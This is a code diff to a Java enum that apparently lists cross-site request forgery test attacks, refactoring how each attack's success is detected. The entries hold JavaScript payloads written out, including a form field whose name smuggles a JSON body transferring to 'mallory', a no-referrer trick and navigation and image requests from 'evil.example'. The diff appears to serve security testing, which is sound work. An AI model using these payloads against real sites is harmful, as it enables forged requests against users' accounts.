@@ -15,14 +15,14 @@ enum RealAttack {
           + "const field = document.createElement('input');"
           + "field.name = '{\"to\":\"mallory\",\"x\":\"'; field.value = '\"}'; form.append(field);"
           + "document.body.append(form); form.submit(); return '';",
-      Seen.ARRIVAL),
+      Seen.BOOKS),
   FORM_MULTIPART("W05-form-multipart", form("form.enctype = 'multipart/form-data';")),
   FORM_NO_REFERRER(
       "W32-form-no-referrer",
       "const meta = document.createElement('meta'); meta.name = 'referrer';"
           + "meta.content = 'no-referrer'; document.head.append(meta);"
           + form("")),
-  NAVIGATION("W08-navigation", "location = 'QUERY'; return '';", Seen.ARRIVAL),
+  NAVIGATION("W08-navigation", "location = 'QUERY'; return '';", Seen.BOOKS),
   IMAGE(
       "W08-image",
       "return await new Promise(end => { const e = new Image(); e.onload = e.onerror ="
@@ -68,7 +68,6 @@ enum RealAttack {
   /** By what an attack shows that it succeeded. */
   enum Seen {
     BOOKS,
-    ARRIVAL,
     TEXT,
     SESSION,
     TITLE
@@ -79,7 +78,7 @@ enum RealAttack {
   private final Seen seen;
 
   RealAttack(String id, String script) {
-    this(id, script, script.contains("form.submit()") ? Seen.ARRIVAL : Seen.BOOKS);
+    this(id, script, Seen.BOOKS);
   }
 
   RealAttack(String id, String script, Seen seen) {
@@ -103,6 +102,11 @@ enum RealAttack {
     return id.endsWith("-sibling") || id.equals("R09-subdomain")
         ? "https://blog-of-somebody.bank.example/"
         : "https://evil.example/";
+  }
+
+  /** Whether the tab ends elsewhere. */
+  boolean leaves() {
+    return script.contains("form.submit()") || script.startsWith("location");
   }
 
   Seen seen() {
